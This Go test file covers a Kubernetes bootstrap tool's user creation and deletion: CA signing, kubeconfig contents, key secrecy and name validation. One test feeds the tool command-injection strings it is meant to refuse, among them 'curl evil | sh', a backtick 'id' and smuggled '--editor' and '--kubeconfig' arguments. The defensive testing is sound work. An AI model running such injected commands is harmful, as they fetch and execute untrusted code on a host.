package bootstrap

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"kgpu.dev/kgpu/bootstrap/event"
	"kgpu.dev/kgpu/bootstrap/kubeconfig"
	"kgpu.dev/kgpu/bootstrap/plan"
	"kgpu.dev/kgpu/bootstrap/reason"
	"kgpu.dev/kgpu/bootstrap/remote/sshtest"
)

// signer is a cluster's certificate authority.
type signer struct {
	key  *ecdsa.PrivateKey
	cert *x509.Certificate
}

func newSigner(t testing.TB) *signer {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "kubernetes"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().AddDate(10, 0, 0),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return &signer{key, cert}
}

func (s *signer) pem() []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.cert.Raw})
}

// admin is the administrator's way in as kubeadm makes it.
func (s *signer) admin(t testing.TB, server string) *kubeconfig.Access {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(3), Subject: pkix.Name{CommonName: "kubernetes-admin"}, NotBefore: s.cert.NotBefore, NotAfter: s.cert.NotAfter, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, s.cert, &key.PublicKey, s.key)
	if err != nil {
		t.Fatal(err)
	}
	private, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return &kubeconfig.Access{
		Cluster: "kubernetes", User: "kubernetes-admin", Context: "kubernetes-admin@kubernetes", Server: server, CA: s.pem(),
		Certificate: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), Key: pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: private}),
	}
}

// adminConfText is a kubeconfig as kubeadm writes it.
func adminConfText(t testing.TB, a *kubeconfig.Access) string {
	t.Helper()
	text, err := a.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return string(text) + "preferences: {}\n"
}

// sign signs what a CertificateSigningRequest asks for, for a year at most.
func (s *signer) sign(t *testing.T, object []byte) []byte {
	t.Helper()
	var request struct {
		Spec struct {
			Request           string
			ExpirationSeconds int64 `yaml:"expirationSeconds"`
		}
	}
	if err := yaml.Unmarshal(object, &request); err != nil {
		t.Fatal(err)
	}
	data, err := base64.StdEncoding.DecodeString(request.Spec.Request)
	if err != nil {
		t.Fatal(err)
	}
	block, rest := pem.Decode(data)
	if block == nil || block.Type != "CERTIFICATE REQUEST" || len(rest) > 0 {
		t.Fatalf("the request is %q", data)
	}
	csr, err := x509.ParseCertificateRequest(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if err := csr.CheckSignature(); err != nil {
		t.Fatal(err)
	}
	end := time.Now().Add(time.Duration(request.Spec.ExpirationSeconds) * time.Second)
	if year := time.Now().AddDate(1, 0, 0); end.After(year) {
		end = year
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: csr.Subject, NotBefore: s.cert.NotBefore, NotAfter: end, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}
	der, err := x509.CreateCertificate(rand.Reader, template, s.cert, csr.PublicKey, s.key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

// userSite is a cluster whose control plane signs what user/create brings.
func userSite(t *testing.T, enforced string) (*site, Options, *[]byte) {
	t.Helper()
	s, o := newSite(t, "cp1")
	s.joined["cp1"] = true
	authority := newSigner(t)
	put(t, s.adminConf, adminConfText(t, authority.admin(t, "https://api-78e651.lab.kgpu.internal:6443")))
	o.Inventory.Path, o.Inventory.Cluster = filepath.Join(t.TempDir(), "inventory.yaml"), "lab"
	sent := new([]byte)
	s.servers["cp1"].Handle(func(e *sshtest.Exec) int {
		if !strings.Contains(e.Line, "receive.sh") {
			return s.exec("cp1", e)
		}
		zip, err := gzip.NewReader(e.Stdin)
		if err != nil {
			return sshtest.Vanish
		}
		var request []byte
		for archive := tar.NewReader(zip); ; {
			h, err := archive.Next()
			if err != nil {
				break
			}
			content, _ := io.ReadAll(archive)
			*sent = append(*sent, content...)
			if path.Base(h.Name) == "request" {
				request = content
			}
		}
		const id = "user/create"
		fmt.Fprintf(e.Stdout, "B\t%s\t0\n", id)
		for name, value := range map[string][]byte{"certificate": authority.sign(t, request), "enforced": []byte(enforced)} {
			fmt.Fprintf(e.Stdout, "O\t%s\t%s\t%s\n", id, name, base64.StdEncoding.EncodeToString(value))
		}
		fmt.Fprintf(e.Stdout, "D\t%s\t0\t1\t\t\nE\t0\n", id)
		return 0
	})
	return s, o, sent
}

// The kubeconfig is the user's, in their namespace; its key fits the certificate and was told to nobody.
func TestCreateUser(t *testing.T) {
	s, o, sent := userSite(t, "baseline")
	ended, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 30})
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(filepath.Dir(o.Inventory.Path), "lab-joe.kubeconfig")
	data, err := os.ReadFile(file)
	if err != nil || !strings.Contains(ended, file) {
		t.Fatalf("%v; ended with %q", err, ended)
	}
	if info, err := os.Stat(file); err != nil || info.Mode() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	a, err := kubeconfig.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if a.Context != "joe@lab" || a.User != "joe" || a.Cluster != "lab" || !strings.Contains(string(data), "namespace: joe") || strings.Contains(string(data), base64.StdEncoding.EncodeToString([]byte("THE-ADMINS-KEY"))) {
		t.Errorf("%s", data)
	}
	if a.Server != "https://127.0.0.1:6443" || a.Name() != "api-78e651.lab.kgpu.internal" {
		t.Errorf("it leads to %s, known as %s", a.Server, a.Name())
	}
	pair, err := tls.X509KeyPair(a.Certificate, a.Key)
	if err != nil {
		t.Fatal(err)
	}
	if name := pair.Leaf.Subject; name.CommonName != "joe" || len(name.Organization) != 1 || name.Organization[0] != plan.UsersGroup {
		t.Errorf("the certificate is %s's", name)
	}
	if left := time.Until(pair.Leaf.NotAfter); left < 29*24*time.Hour || left > 31*24*time.Hour {
		t.Errorf("it is valid for %s", left)
	}
	block, _ := pem.Decode(a.Key)
	for _, secret := range []string{string(a.Key), string(block.Bytes), base64.StdEncoding.EncodeToString(block.Bytes)} {
		if strings.Contains(string(*sent), secret) || strings.Contains(fmt.Sprint(s.Events()), secret) {
			t.Error("the key was told")
		}
	}
	for _, e := range s.Events() {
		if e.Kind == "warning" {
			t.Errorf("warned of %s", e.Text)
		}
	}

	// Again: another key. A file that is not the user's stays.
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 30}); err != nil {
		t.Fatal(err)
	}
	if again, err := os.ReadFile(file); err != nil || string(again) == string(data) {
		t.Errorf("it was not renewed: %v", err)
	}
	var usage *reason.UsageError
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "ann", Role: "edit", Days: 30, File: file}); !errors.As(err, &usage) {
		t.Errorf("joe's file became ann's: %v", err)
	}
	for _, bad := range []UserOptions{
		{Name: "Joe", Role: "edit", Days: 1}, {Name: "-joe", Role: "edit", Days: 1}, {Name: "kube-system", Role: "edit", Days: 1}, {Name: "joe", Namespace: "kgpu-notebook", Role: "edit", Days: 1},
		{Name: "joe", Role: "cluster-admin", Days: 1}, {Name: "joe", Role: "edit"}, {Name: "joe\nx", Role: "edit", Days: 1}, {Name: "joe", Namespace: "a/b", Role: "edit", Days: 1},
		{Name: "joe", Role: "edit", Days: 1, File: filepath.Join(filepath.Dir(file), "nowhere", "joe")},
	} {
		if _, err := CreateUser(t.Context(), o, bad); !errors.As(err, &usage) {
			t.Errorf("%+v: %v", bad, err)
		}
	}
}

// What the user's rights are not is told.
func TestWarningsOfUsers(t *testing.T) {
	s, o, _ := userSite(t, "")
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 1000}); err != nil {
		t.Fatal(err)
	}
	var all string
	for _, e := range s.Events() {
		if e.Kind == "warning" {
			all += e.Text + "\n"
		}
	}
	for _, want := range []string{"signs for a shorter time", "pod-security.kubernetes.io/enforce=baseline"} {
		if !strings.Contains(all, want) {
			t.Errorf("no warning of %q in %q", want, all)
		}
	}
}

// A certificate that is somebody else's, or for another key, makes no kubeconfig.
func TestUserCertificate(t *testing.T) {
	_, o := newSite(t, "cp1")
	s := newStory(o)
	defer s.Close()
	authority := newSigner(t)
	certificate := func(user string) (cert, key []byte) {
		key, request, err := newRequest(user)
		if err != nil {
			t.Fatal(err)
		}
		return authority.sign(t, fmt.Appendf(nil, "spec: {request: %s, expirationSeconds: 86400}", base64.StdEncoding.EncodeToString(request))), key
	}
	joe, key := certificate("joe")
	again, _ := certificate("joe")
	ann, anns := certificate("ann")
	if _, text, err := s.userCertificate(append([]byte("\n"), joe...), key, authority.pem(), "joe"); err != nil || !bytes.Equal(text, joe) {
		t.Errorf("%v, and the kubeconfig has %q", err, text)
	}
	for name, c := range map[string][3][]byte{
		"another key's": {again, key, authority.pem()}, "another user's": {ann, anns, authority.pem()}, "nothing": {nil, key, authority.pem()},
		"another authority's": {joe, key, newSigner(t).pem()}, "with something behind": {slices.Concat(joe, []byte("exec: {}\n")), key, authority.pem()},
		"with a key behind": {slices.Concat(joe, key), key, authority.pem()},
	} {
		if _, _, err := s.userCertificate(c[0], c[1], c[2], "joe"); !errors.Is(err, &reason.Error{ID: reason.UserRefused}) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// What a host says of a binding becomes a command to copy only where a shell could not take it for more.
func TestBindingsToEdit(t *testing.T) {
	for said, want := range map[string]string{
		"-n ops rolebinding team":                    "`kubectl edit -n ops rolebinding team`",
		"clusterrolebinding system:x@y.z":            "`kubectl edit clusterrolebinding system:x@y.z`",
		"clusterrolebinding a; curl evil | sh":       `one whose name is no plain word ("clusterrolebinding a; curl evil | sh")`,
		"-n ops rolebinding a --editor=/tmp/x":       `one whose name is no plain word ("-n ops rolebinding a --editor=/tmp/x")`,
		"-n ops rolebinding --kubeconfig=/tmp/x":     `one whose name is no plain word ("-n ops rolebinding --kubeconfig=/tmp/x")`,
		"-n ops rolebinding `id` clusterrolebinding": "one whose name is no plain word (\"-n ops rolebinding `id` clusterrolebinding\")",
	} {
		if got := edits([]string{said}); len(got) != 1 || got[0] != want {
			t.Errorf("%s: %q, want %q", said, got, want)
		}
	}
}

// Who deletes a user that is none is told so, and who may be meant.
func TestDeleteUser(t *testing.T) {
	s, o := newSite(t, "cp1")
	s.joined["cp1"] = true
	s.users = "joe\tjoe\tedit\t\n"
	outputs := map[string]string{}
	s.servers["cp1"].Handle(func(e *sshtest.Exec) int {
		if !strings.Contains(e.Line, "receive.sh") {
			return s.exec("cp1", e)
		}
		const id = "user/delete"
		fmt.Fprintf(e.Stdout, "B\t%s\t0\n", id)
		for name, value := range outputs {
			fmt.Fprintf(e.Stdout, "O\t%s\t%s\t%s\n", id, name, base64.StdEncoding.EncodeToString([]byte(value)))
		}
		fmt.Fprintf(e.Stdout, "D\t%s\t0\t1\t\t\nE\t0\n", id)
		return 0
	})
	outputs["found"], outputs["namespaces"], outputs["end"] = "yes\n", "lab\nother\n", "Dec  1 10:00:00 2026 GMT\nDec  1 10:00:00 2027 GMT\n"
	outputs["pods"] = "lab/a\nlab/b\nlab/c\nlab/d\nlab/e\nlab/f\n"
	said, err := DeleteUser(t.Context(), o, "joe")
	for _, want := range []string{"grants joe nothing any more", "until 2027-12-01", "in lab, other;", "pods run on: lab/a, lab/b, lab/c, lab/d, lab/e and 1 more"} {
		if err != nil || !strings.Contains(said, want) {
			t.Errorf("no %q in %q, %v", want, said, err)
		}
	}
	outputs["may"], outputs["bindings"], outputs["accounts"] = "ops\tpods [] [] [get\x1b[1m list]\n", "-n ops rolebinding team\n", "lab/helper\n"
	said, err = DeleteUser(t.Context(), o, "joe")
	if !errors.Is(err, &reason.Error{ID: reason.UserRightsLeft}) || said != "" {
		t.Fatalf("%q, %v", said, err)
	}
	for _, want := range []string{"`kubectl edit -n ops rolebinding team`", "in ops: pods [] [] [get list]"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("no %q in %v", want, err)
		}
	}
	if e := s.Events(); !slices.ContainsFunc(e, func(e event.Event) bool { return e.Kind == event.Warning && strings.Contains(e.Text, "lab/helper") }) {
		t.Errorf("nothing of lab/helper in %v", e)
	}
	clear(outputs)
	outputs["found"] = "yes\n"
	if said, err := DeleteUser(t.Context(), o, "joe"); err != nil || !strings.HasSuffix(said, "opens nothing as long as there is no new user of that name") {
		t.Errorf("of what another run left: %q, %v", said, err)
	}
	outputs["found"] = "\n"
	var usage *reason.UsageError
	if said, err := DeleteUser(t.Context(), o, "jo"); !errors.As(err, &usage) || said != "" || !strings.Contains(err.Error(), `no user "jo" in this cluster. Did you mean "joe"?`) {
		t.Errorf("%q, %v", said, err)
	}
}

func TestNoClusterNoUser(t *testing.T) {
	_, o := newSite(t, "cp1")
	o.Inventory.Path = filepath.Join(t.TempDir(), "inventory.yaml")
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 1}); !errors.Is(err, &reason.Error{ID: reason.ClusterMissing}) {
		t.Error(err)
	}
}

func TestUsers(t *testing.T) {
	h, o := newAPIHost(t)
	h.program(t, "kubectl", `printf 'joe\tjoe\tedit\tDec  1 10:00:00 2026 GMT\nann\tlab\tview\t\n'`)
	got, err := Users(t.Context(), o)
	if err != nil || len(got) != 2 || got[0].Name != "joe" || got[0].Until.Format(time.DateOnly) != "2026-12-01" || got[1].Role != "view" || !got[1].Until.IsZero() {
		t.Errorf("%+v, %v", got, err)
	}
	h.program(t, "kubectl", `echo what; exit 0`)
	if _, err := Users(t.Context(), o); !errors.Is(err, &reason.Error{ID: reason.FactsFailed}) {
		t.Error(err)
	}
}
